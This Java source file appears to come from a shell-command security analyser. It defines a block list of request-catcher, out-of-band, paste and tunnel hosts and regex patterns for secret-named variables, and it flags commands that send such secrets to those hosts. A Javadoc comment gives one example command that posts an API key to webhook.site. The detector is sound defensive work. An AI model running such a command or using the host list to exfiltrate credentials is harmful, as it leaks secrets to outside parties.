package dev.interlock.analysis.shell.recognizers.network;

import dev.interlock.analysis.shell.Arg;
import dev.interlock.analysis.shell.Invocation;
import dev.interlock.model.Operation;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Hosts that take data from anyone and show it to whoever set them up: request catchers ({@code webhook.site},
 * RequestBin, Pipedream), out-of-band interaction collectors (interactsh, Burp Collaborator), paste and file drops
 * ({@code pastebin.com}, {@code transfer.sh}) and the public names of tunnels ({@code *.ngrok-free.app},
 * {@code *.trycloudflare.com}). No organisation's API lives there, so a secret variable expanded into a request to one
 * ({@code curl -d "k=$DD_API_KEY" https://webhook.site/…}) is the secret leaving, while the same variable sent to its
 * vendor's API ({@code -H "DD-API-KEY: $DD_API_KEY" https://api.datadoghq.com/…}) is how the secret is used.
 */
final class DropHosts {

    private DropHosts() {
    }

    /** Registrable domains; a host is a drop when it is one of them or below one. */
    private static final List<String> DOMAINS = List.of(
            // request catchers and mock endpoints that log what they receive
            "webhook.site", "requestbin.com", "requestbin.net", "requestbin.io", "pipedream.net", "beeceptor.com", "hookbin.com",
            "requestcatcher.com", "mockbin.org", "mockbin.io", "postb.in", "ptsv2.com", "ptsv3.com", "requestrepo.com",
            "webhook.cool", "typedwebhook.tools",
            // out-of-band interaction collectors (security testing, and attackers' favourite drop)
            "interact.sh", "oast.pro", "oast.live", "oast.site", "oast.online", "oast.fun", "oast.me", "oastify.com",
            "burpcollaborator.net", "canarytokens.com", "dnslog.cn", "ceye.io",
            // paste and file drops
            "pastebin.com", "paste.ee", "hastebin.com", "dpaste.com", "dpaste.org", "paste.rs", "rentry.co", "ix.io",
            "sprunge.us", "termbin.com", "0x0.st", "transfer.sh", "file.io", "tmpfiles.org", "temp.sh", "catbox.moe",
            "bashupload.com", "oshi.at", "gofile.io", "privatebin.net", "controlc.com",
            // public tunnels' hostnames: whoever runs the tunnel reads the request
            "ngrok.io", "ngrok.app", "ngrok.dev", "ngrok-free.app", "ngrok-free.dev", "trycloudflare.com", "loca.lt",
            "localtunnel.me", "serveo.net", "serveousercontent.com", "localhost.run", "lhr.life", "bore.pub", "pinggy.link");

    /**
     * A variable named as a secret: an API, application, access or signing key, a token, a secret, a password, a
     * connection string ({@code DD_API_KEY}, {@code DD_APP_KEY}, {@code GITHUB_TOKEN}, {@code AWS_SECRET_ACCESS_KEY},
     * {@code DATABASE_URL}); an identifier beside one ({@code AWS_ACCESS_KEY_ID}) is not.
     */
    private static final Pattern SECRET_VARIABLE = Pattern.compile("(?i)(?:[a-z0-9]+_)*(?:api_?key|app_?key|access_?key|secret_?key"
            + "|private_?key|signing_?key|master_?key|token|pat|secret|password|passwd|pass|passphrase|credentials?"
            + "|database_url|connection_string)");
    private static final Pattern EXPANSION = Pattern.compile("\\$\\{?([A-Za-z_][A-Za-z0-9_]*)");

    /** Whether {@code host} is a drop: one of the domains or a name below one. */
    static boolean drop(String host) {
        String h = host.toLowerCase(Locale.ROOT);
        for (String d : DOMAINS) {
            if (h.endsWith(d) && (h.length() == d.length() || h.charAt(h.length() - d.length() - 1) == '.')) {
                return true;
            }
        }
        return false;
    }

    /** The secret variables the command's words expand ({@code "k=$DD_API_KEY&a=$DD_APP_KEY"}); quoted text is not expanded. */
    static Set<String> secretVariables(Invocation inv) {
        Set<String> names = new LinkedHashSet<>();
        for (Arg a : inv.args()) {
            if (a.literal() || a.value().indexOf('$') < 0) {
                continue;
            }
            Matcher m = EXPANSION.matcher(a.value());
            while (m.find()) {
                if (SECRET_VARIABLE.matcher(m.group(1)).matches()) {
                    names.add(m.group(1));
                }
            }
        }
        return names;
    }

    /**
     * The request's secret variables leaving for a drop host, as the transfer {@code secrets-never-leave} stops; empty
     * when no secret variable is expanded or the host is not a drop.
     */
    static Optional<Operation> secretsSent(Invocation inv, String host) {
        Set<String> names = secretVariables(inv); // words first: most requests expand no variable at all
        if (names.isEmpty() || host.isEmpty() || !drop(host)) {
            return Optional.empty();
        }
        List<String> shown = new ArrayList<>();
        names.forEach(n -> shown.add("$" + n));
        return Optional.of(NetworkRecognizer.exfiltration("credentials", String.join(", ", shown), host, inv.evidence(), java.util.Map.of())
                .toBuilder().note("sends the secret variables " + String.join(", ", shown) + " to " + host
                        + ", a public request catcher, paste or tunnel host no organisation's API lives on").build());
    }
}
